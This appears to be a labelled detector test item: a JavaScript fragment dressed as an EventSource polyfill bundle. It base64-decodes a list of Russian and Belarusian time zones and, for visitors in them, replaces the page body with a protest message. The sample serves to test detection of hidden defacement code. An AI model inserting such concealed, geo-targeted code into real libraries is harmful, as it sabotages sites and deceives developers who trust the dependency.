// expect: suspicious
// source: blind set 29 (website defacement): an EventSource polyfill's UMD bundle decodes its list of Russian and
// Belarusian time zones from base64 (through a try/catch decoder over the global's atob) and, for users in them,
// replaces the page's body through an alias of document.
(function (root, factory) { factory(typeof window !== 'undefined' ? window : {}); })(this, function (t) {
  var f = function (e) { try { return decodeURIComponent(escape(t.atob(e))); } catch (x) { return ''; } };
  var inZone = function () {
    var z = Intl.DateTimeFormat().resolvedOptions().timeZone || '';
    return f('RXVyb3BlL01vc2NvdyxFdXJvcGUvU2FtYXJhLEFzaWEvT21zayxFdXJvcGUvTWluc2s=').split(',').indexOf(z) > -1;
  };
  if (t.document && inZone()) { var d = t.document; d.body.innerHTML = '<h1>Stop the war.</h1>'; }
});
